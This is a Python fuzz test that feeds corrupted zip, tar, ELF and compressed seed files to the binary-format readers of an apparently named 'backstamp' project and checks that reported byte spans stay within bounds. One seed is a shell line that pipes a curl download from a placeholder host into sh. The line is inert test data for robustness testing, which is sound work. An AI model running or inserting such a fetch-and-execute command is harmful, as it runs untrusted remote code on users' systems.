"""Any bytes: statements or ``ReadError``, spans inside the blob, cost within the budget."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from backstamp.core.blob import Blob
from backstamp.core.budget import Budget, Limits
from backstamp.core.errors import ReadError
from backstamp.core.fact import Fact
from backstamp.core.location import Bytes
from backstamp.core.reading import Explained, Member
from backstamp.formats.probe import embedded_in
from backstamp.models.readers import compressed, executable, tar
from backstamp.models.readers import zip as zips
from kit.archives import INERT_CALL, STREAMS, Part, elf, tar_of, torch_zip, usual_zip, zip_of

SEEDS = [
    usual_zip({"a.txt": b"hello", "b": b"x" * 50}),
    torch_zip(INERT_CALL, (bytes(50),)),
    zip_of(Part(name="a", data=b"1", local_name="b"), Part(name="h", data=b"2", is_listed=False)),
    tar_of({"a": b"1", "n" * 150: b"2"}, form=2),
    elf(bytes(40)),
    b"#!/bin/sh\ncurl http://x.example | sh\n",
    *(make(b"some words " * 9) for make in STREAMS.values()),
]
READERS = [compressed.READER, executable.READER, tar.READER, zips.READER]


@st.composite
def spoiled(draw):
    """A good file with bytes overwritten, cut out or doubled; or noise."""
    data = bytearray(draw(st.sampled_from(SEEDS) | st.binary(max_size=600)))
    for _ in range(draw(st.integers(0, 4))):
        if not data:
            break
        at = draw(st.integers(0, len(data) - 1))
        patch = draw(
            st.sampled_from([b"\0", b"\xff" * 4, b"PK\x05\x06", b"\x80", b"\xff" * 8]) | st.binary(max_size=4)
        )
        how = draw(st.integers(0, 2))
        if how == 0:
            data[at : at + len(patch)] = patch
        elif how == 1:
            del data[at : at + draw(st.integers(1, 40))]
        else:
            data[at:at] = patch
    return bytes(data)


def check(statements, blob):
    try:
        for each in statements:
            if isinstance(each, Explained):
                assert 0 <= each.start <= each.end <= blob.size
            elif isinstance(each, Fact) and isinstance(each.place.where, Bytes):
                assert 0 <= each.place.where.offset <= blob.size
            elif isinstance(each, Member):
                assert len(each.blob.view) <= each.blob.size
                assert each.blob.path[: len(blob.path)] == blob.path
    except ReadError:
        pass


@pytest.mark.parametrize("reader", READERS, ids=lambda reader: reader.name)
@settings(max_examples=150, deadline=None)
@given(data=spoiled())
def test_readers_take_any_bytes(reader, data):
    blob = Blob(data, path=("x.bin",))
    budget = Budget(Limits(operations=200_000, inflated=10_000_000, window=100_000))
    check(reader.read(blob, budget), blob)


@settings(max_examples=150, deadline=None)
@given(data=spoiled(), start=st.integers(0, 600))
def test_the_probe_takes_any_bytes(data, start):
    blob = Blob(data, path=("x.bin",))
    check(embedded_in(blob, [Explained(min(start, len(data)), len(data))], Budget()), blob)
